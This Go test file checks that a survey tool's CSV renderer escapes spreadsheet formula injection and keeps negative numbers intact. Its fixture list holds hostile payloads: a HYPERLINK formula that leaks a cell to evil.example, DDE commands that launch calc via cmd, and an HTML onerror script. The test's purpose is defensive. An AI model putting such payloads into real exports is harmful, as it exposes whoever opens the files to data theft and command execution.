package render_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/mapsurvey/mapsurvey/pkg/render"
	"github.com/mapsurvey/mapsurvey/pkg/survey"
	"github.com/mapsurvey/mapsurvey/pkg/table"
	"github.com/mapsurvey/mapsurvey/pkg/tally"
)

// hostileLabels start as a spreadsheet formula, a DDE command or with a control character, or
// hold HTML: text that a program opening an output would run.
var hostileLabels = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"Click")`,
	`+cmd|' /C calc'!A0`,
	`-2+3`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\tTab",
	"\rReturn",
	` =1+1`,
	`<img src=x onerror=alert(1)>`,
}

// hostile is a survey whose every dimension has hostile labels, with one activity each.
func hostile(t *testing.T) (*tally.Analysis, *survey.Schema) {
	t.Helper()
	s := survey.Builtin()
	var values []survey.Value
	for _, l := range hostileLabels {
		values = append(values, survey.Value{Label: l})
	}
	for _, k := range survey.Dims {
		s.Columns[k].Values = values
	}
	var acts []tally.Activity
	for i := range hostileLabels {
		acts = append(acts, tally.Activity{State: i % 2, Partner: i, Area: i, Type: i})
	}
	a, err := tally.Count(tally.Input{States: []string{"Austria", "=Belgium"},
		Partners: s.Labels(survey.Partner), Areas: s.Labels(survey.Area), Types: s.Labels(survey.Type), Activities: acts})
	if err != nil {
		t.Fatal(err)
	}
	return a, s
}

// formula reports whether a spreadsheet would run a CSV cell: it starts (after spaces) with one
// of the characters that begin a formula.
func formula(cell string) bool {
	c := strings.TrimLeft(cell, " ")
	return c != "" && strings.ContainsAny(c[:1], "=+-@\t\r\n")
}

func TestCSVEscapesFormulasButKeepsNumbers(t *testing.T) {
	a, s := hostile(t)
	tables := render.Tables(a, s, render.Options{Order: render.BySurvey, ByState: true})
	var buf bytes.Buffer
	if err := render.CSV(&buf, tables); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	r := csv.NewReader(strings.NewReader(out))
	r.FieldsPerRecord = -1
	records, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	escaped := 0
	for _, rec := range records {
		for _, cell := range rec {
			if formula(cell) {
				t.Errorf("CSV cell %q would run as a formula", cell)
			}
			if strings.HasPrefix(cell, "'") {
				escaped++
			}
		}
	}
	if escaped == 0 {
		t.Fatal("no cell was escaped: the hostile labels did not reach the CSV")
	}
	// Labels come back with one quote in front, whatever their position.
	if !strings.Contains(out, `'=HYPERLINK(""http://evil.example/?""&A1,""Click"")`) {
		t.Errorf("the HYPERLINK label is not written as quoted text:\n%s", out)
	}
}

func TestCSVKeepsNegativeNumbersOfNumericColumns(t *testing.T) {
	tb := table.Table{Name: "01-x", Columns: []table.Column{{Title: "Label"}, {Title: "Diff", Kind: table.Difference},
		{Title: "Rank", Kind: table.Rank}},
		Rows: [][]table.Value{
			{{Text: "-3", Raw: "-3"}, {Text: "-3", Raw: "-3"}, {Text: "-", Raw: "-"}},
			{{Text: "Asylum", Raw: "Asylum"}, {Text: "-1.5", Raw: "-1.5"}, {Text: "=1+1", Raw: "=1+1"}},
		}}
	var buf bytes.Buffer
	if err := render.CSVTable(&buf, tb); err != nil {
		t.Fatal(err)
	}
	want := "Label,Diff,Rank\n'-3,-3,'-\nAsylum,-1.5,'=1+1\n"
	if buf.String() != want {
		t.Errorf("CSV\n%s\nwant\n%s", buf.String(), want)
	}
}
